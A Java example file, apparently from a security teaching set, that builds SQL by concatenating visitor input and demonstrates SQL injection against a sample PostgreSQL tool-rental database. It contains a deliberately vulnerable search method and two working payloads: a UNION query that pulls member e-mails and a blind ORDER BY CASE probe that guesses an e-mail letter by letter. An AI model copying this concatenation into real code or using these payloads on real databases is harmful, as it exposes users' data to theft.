// database: postgresql
// needs: ../../databases/samples/toolshed.sql
// insecure: inj-search.java
// Insecure: what a visitor typed becomes a part of the SQL.
import java.sql.*;
import java.util.*;

class SearchWeak {
    static final String UNION =
        "x' UNION SELECT email FROM member ORDER BY 1 --";
    static final String GUESS = """
        CASE WHEN (SELECT email FROM member WHERE id = 4) LIKE '%s%%'
        THEN daily_fee ELSE -daily_fee END""";

    static List<String> search(
            Connection connection, String text, String sort)
            throws SQLException {
        var sql = "SELECT name FROM tool WHERE name LIKE '%" + text
            + "%' ORDER BY " + sort;
        var names = new ArrayList<String>();
        try (var statement = connection.createStatement();
            var rows = statement.executeQuery(sql)) {
            while (rows.next()) names.add(rows.getString(1));
        }
        return names;
    }

    public static void main(String[] arguments) throws SQLException {
        var env = System.getenv();
        var url = "jdbc:postgresql://%s:%s/%s".formatted(
            env.get("PGHOST"), env.get("PGPORT"), env.get("PGDATABASE"));
        try (var connection = DriverManager.getConnection(
                url, env.get("PGUSER"), env.get("PGPASSWORD"))) {
            var honest = search(connection, "drill", "name");
            System.out.println("honest: " + String.join(", ", honest));
            var stolen = search(connection, UNION, "name");
            System.out.println("UNION: " + String.join(", ", stolen));
            for (var letter : List.of("a", "d")) {
                var tools = search(connection, "", GUESS.formatted(letter));
                System.out.printf(
                    "does the e-mail begin with %s? first is %s%n",
                    letter, tools.get(0));
            }
        }
    }
}
